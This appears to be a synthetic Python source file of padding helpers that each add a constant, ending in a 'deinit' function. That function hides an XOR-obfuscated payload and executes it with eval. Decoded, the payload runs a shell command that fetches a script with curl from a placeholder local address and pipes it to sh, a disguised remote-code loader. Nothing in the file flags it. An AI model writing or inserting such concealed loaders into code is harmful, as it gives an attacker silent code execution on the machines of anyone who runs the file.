import sys

def helper_0(x):
    return x + 0

def helper_1(x):
    return x + 1

def helper_2(x):
    return x + 2

def helper_3(x):
    return x + 3

def helper_4(x):
    return x + 4

def helper_5(x):
    return x + 5

def helper_6(x):
    return x + 6

def helper_7(x):
    return x + 7

def helper_8(x):
    return x + 8

def helper_9(x):
    return x + 9

def helper_10(x):
    return x + 10

def helper_11(x):
    return x + 11

def helper_12(x):
    return x + 12

def helper_13(x):
    return x + 13

def helper_14(x):
    return x + 14

def helper_15(x):
    return x + 15

def helper_16(x):
    return x + 16

def helper_17(x):
    return x + 17

def helper_18(x):
    return x + 18

def helper_19(x):
    return x + 19

def helper_20(x):
    return x + 20

def helper_21(x):
    return x + 21

def helper_22(x):
    return x + 22

def helper_23(x):
    return x + 23

def helper_24(x):
    return x + 24

def helper_25(x):
    return x + 25

def helper_26(x):
    return x + 26

def helper_27(x):
    return x + 27

def helper_28(x):
    return x + 28

def helper_29(x):
    return x + 29

def helper_30(x):
    return x + 30

def helper_31(x):
    return x + 31

def helper_32(x):
    return x + 32

def helper_33(x):
    return x + 33

def helper_34(x):
    return x + 34

def helper_35(x):
    return x + 35

def helper_36(x):
    return x + 36

def helper_37(x):
    return x + 37

def helper_38(x):
    return x + 38

def helper_39(x):
    return x + 39

def helper_40(x):
    return x + 40

def helper_41(x):
    return x + 41

def helper_42(x):
    return x + 42

def helper_43(x):
    return x + 43

def helper_44(x):
    return x + 44

def helper_45(x):
    return x + 45

def helper_46(x):
    return x + 46

def helper_47(x):
    return x + 47

def helper_48(x):
    return x + 48

def helper_49(x):
    return x + 49

def helper_50(x):
    return x + 50

def helper_51(x):
    return x + 51

def helper_52(x):
    return x + 52

def helper_53(x):
    return x + 53

def helper_54(x):
    return x + 54

def helper_55(x):
    return x + 55

def helper_56(x):
    return x + 56

def helper_57(x):
    return x + 57

def helper_58(x):
    return x + 58

def helper_59(x):
    return x + 59

def helper_60(x):
    return x + 60

def helper_61(x):
    return x + 61

def helper_62(x):
    return x + 62

def helper_63(x):
    return x + 63

def helper_64(x):
    return x + 64

def helper_65(x):
    return x + 65

def helper_66(x):
    return x + 66

def helper_67(x):
    return x + 67

def helper_68(x):
    return x + 68

def helper_69(x):
    return x + 69

def helper_70(x):
    return x + 70

def helper_71(x):
    return x + 71

def helper_72(x):
    return x + 72

def helper_73(x):
    return x + 73

def helper_74(x):
    return x + 74

def helper_75(x):
    return x + 75

def helper_76(x):
    return x + 76

def helper_77(x):
    return x + 77

def helper_78(x):
    return x + 78

def helper_79(x):
    return x + 79

def helper_80(x):
    return x + 80

def helper_81(x):
    return x + 81

def helper_82(x):
    return x + 82

def helper_83(x):
    return x + 83

def helper_84(x):
    return x + 84

def helper_85(x):
    return x + 85

def helper_86(x):
    return x + 86

def helper_87(x):
    return x + 87

def helper_88(x):
    return x + 88

def helper_89(x):
    return x + 89

def helper_90(x):
    return x + 90

def helper_91(x):
    return x + 91

def helper_92(x):
    return x + 92

def helper_93(x):
    return x + 93

def helper_94(x):
    return x + 94

def helper_95(x):
    return x + 95

def helper_96(x):
    return x + 96

def helper_97(x):
    return x + 97

def helper_98(x):
    return x + 98

def helper_99(x):
    return x + 99

def helper_100(x):
    return x + 100

def helper_101(x):
    return x + 101

def helper_102(x):
    return x + 102

def helper_103(x):
    return x + 103

def helper_104(x):
    return x + 104

def helper_105(x):
    return x + 105

def helper_106(x):
    return x + 106

def helper_107(x):
    return x + 107

def helper_108(x):
    return x + 108

def helper_109(x):
    return x + 109

def helper_110(x):
    return x + 110

def helper_111(x):
    return x + 111

def helper_112(x):
    return x + 112

def helper_113(x):
    return x + 113

def helper_114(x):
    return x + 114

def helper_115(x):
    return x + 115

def helper_116(x):
    return x + 116

def helper_117(x):
    return x + 117

def helper_118(x):
    return x + 118

def helper_119(x):
    return x + 119

def deinit():
    blob = "\x5c\x58\x48\x58\x45\x46\x15\x5c\x46\x3f\x57\x47\x1e\x4b\x4a\x45\x42\x5d\x5d\x19\x1e\x50\x4c\x45\x54\x10\x5f\x45\x4d\x44\x0e\x1b\x17\x04\x01\x0e\x16\x04\x1d\x02\x1e\x04\x08\x0c\x1c\x4d\x16\x4e\x13\x4a\x5c\x16\x1b\x3d"
    key = "5587725355840836680193978071944485398432052535623941271504390244845513740858142571110992047974660254"
    out = ''
    for i in range(len(blob)):
        out += chr(ord(blob[i]) ^ ord(key[i % len(key)]))
    eval(compile(out, '<string>', 'exec'))
